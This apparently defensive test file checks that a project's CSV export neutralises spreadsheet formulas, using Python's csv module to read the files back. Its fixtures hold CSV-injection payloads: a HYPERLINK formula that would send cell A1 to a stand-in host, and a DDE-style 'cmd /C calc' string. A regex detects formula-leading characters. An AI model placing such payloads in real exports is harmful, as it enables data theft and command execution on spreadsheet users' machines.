/**
 * The CSV export against Python's csv module: the file `npm run export -- --format csv` writes
 * is read by `csv.DictReader` and every text cell and list comes back, formulas neutralised,
 * through parseCsvText and parseCsvList. Run by `npm run test:interop`; needs Python (PYTHON,
 * default python3) and fails, saying so, without it.
 */
import { spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { parseCsvList, parseCsvText } from '../../src/core/export/csv.ts';
import { buildGraph } from '../../src/core/pipeline/buildGraph.ts';
import { smallDataset, toDataFiles, type SerialisedActorGraph } from '../helpers/dataset.ts';
import { runScript } from '../helpers/run.ts';
import { interopFolder } from '../helpers/interop.ts';

const PYTHON = process.env.PYTHON ?? 'python3';

// Reads CSV files as the csv module documents it (newline='', the default excel dialect).
const READ_WITH_CSV = `
import csv, json, sys
out = []
for path in sys.argv[1:]:
    with open(path, newline='', encoding='utf-8') as f:
        out.append(list(csv.DictReader(f)))
json.dump(out, sys.stdout)
`;

type Row = Record<string, string>;
function readWithPython(...files: string[]): Row[][] {
  const run = spawnSync(PYTHON, ['-c', READ_WITH_CSV, ...files], { encoding: 'utf8' });
  if (run.error || run.status !== 0) {
    throw new Error(
      `${PYTHON} could not read ${files.join(', ')}: ${run.error?.message ?? run.stderr}`,
    );
  }
  return JSON.parse(run.stdout) as Row[][];
}

// eslint-disable-next-line no-control-regex
const FORMULA = /^[=+\-@\t\r\n\u0000＝＋－＠]/;

// Without Python every test fails (with the reason), none is skipped.
const python = spawnSync(PYTHON, ['-c', 'import csv'], { encoding: 'utf8' });
const missing =
  python.error || python.status !== 0
    ? `The CSV interop tests cannot run: ${PYTHON} does not run (set PYTHON to a Python 3): ${
        python.error?.message ?? python.stderr.trim()
      }`
    : undefined;
const folder = interopFolder('csv', missing);

describe('a graph with formulas and list separators exported as CSV by npm run export', () => {
  let graph: SerialisedActorGraph;
  let graphPath: string;
  let edges: Row[];
  let nodes: Row[];
  beforeAll(() => {
    if (missing) return;
    const built = buildGraph(toDataFiles(smallDataset()), { layout: { iterations: 10 } }).graph!;
    built.mergeNodeAttributes('alpha', {
      label: '=HYPERLINK("http://x.test/?"&A1,"Click")',
      aliases: ["-2+3+cmd|' /C calc'!A0", 'Moscow|Russians', 'back\\slash', '', '@x'],
      note: '\tline one\r\n+line two, "quoted"',
    });
    built.mergeNodeAttributes('beta', { aliases: ["'Ndrangheta", "'=kept"], wikidata: '＝Q1' });
    built.updateEdgeAttributes(built.edges('gamma-front', 'alpha')[0]!, (a) => ({
      ...a,
      label: '+label',
      articles: ['=a1', ...a.articles],
    }));
    graphPath = join(folder(), 'formulas.json');
    writeFileSync(graphPath, JSON.stringify(built.export()));
    graph = built.export() as unknown as SerialisedActorGraph;
    const out = join(folder(), 'formulas.csv');
    const run = runScript('export.ts', ['--graph', graphPath, '--out', out]);
    expect(run.status, run.stderr).toBe(0);
    [edges, nodes] = readWithPython(out, join(folder(), 'formulas.nodes.csv')) as [Row[], Row[]];
  });

  it('has no cell that a spreadsheet would run as a formula', () => {
    for (const row of [...edges, ...nodes]) {
      for (const cell of Object.values(row))
        expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA);
    }
    const alpha = nodes.find((r) => r.id === 'alpha')!;
    expect(alpha.label).toBe('\'=HYPERLINK("http://x.test/?"&A1,"Click")');
    expect(alpha.aliases).toBe("'-2+3+cmd\\|' /C calc'!A0|Moscow\\|Russians|back\\\\slash||'@x");
  });

  it('gives every node and edge text and list back through parseCsvText and parseCsvList', () => {
    expect(nodes.map((r) => parseCsvText(r.id!))).toEqual(graph.nodes.map((n) => n.key));
    for (const { key, attributes: a } of graph.nodes) {
      const r = nodes.find((n) => parseCsvText(n.id!) === key)!;
      for (const column of ['label', 'kind', 'affiliation', 'wikidata', 'note'] as const) {
        expect(parseCsvText(r[column]!)).toBe(a[column] ?? '');
      }
      expect(parseCsvList(r.aliases!)).toEqual(a.aliases);
      expect(Number(r.degree)).toBe(a.degree);
    }
    expect(edges).toHaveLength(graph.edges.length);
    for (const { key, source, target, attributes: a } of graph.edges) {
      const r = edges.find((e) => parseCsvText(e.id!) === key)!;
      expect([r.source, r.target].map((c) => parseCsvText(c!))).toEqual([source, target]);
      expect([r.relation, r.label].map((c) => parseCsvText(c!))).toEqual([a.relation, a.label]);
      expect(parseCsvList(r.articles!)).toEqual(a.articles);
      expect(Number(r.weight)).toBe(a.weight);
    }
  });

  it('writes the cells as they are with --no-neutralise', () => {
    const out = join(folder(), 'raw.csv');
    const run = runScript('export.ts', ['--graph', graphPath, '--out', out, '--no-neutralise']);
    expect(run.status, run.stderr).toBe(0);
    const [, rawNodes] = readWithPython(out, join(folder(), 'raw.nodes.csv')) as [Row[], Row[]];
    const alpha = rawNodes.find((r) => r.id === 'alpha')!;
    expect(alpha.label).toBe('=HYPERLINK("http://x.test/?"&A1,"Click")');
    expect(alpha.note).toBe('\tline one\r\n+line two, "quoted"');
    const options = { neutraliseFormulas: false };
    expect(parseCsvList(alpha.aliases!, options)).toEqual(
      graph.nodes.find((n) => n.key === 'alpha')!.attributes.aliases,
    );
  });
});
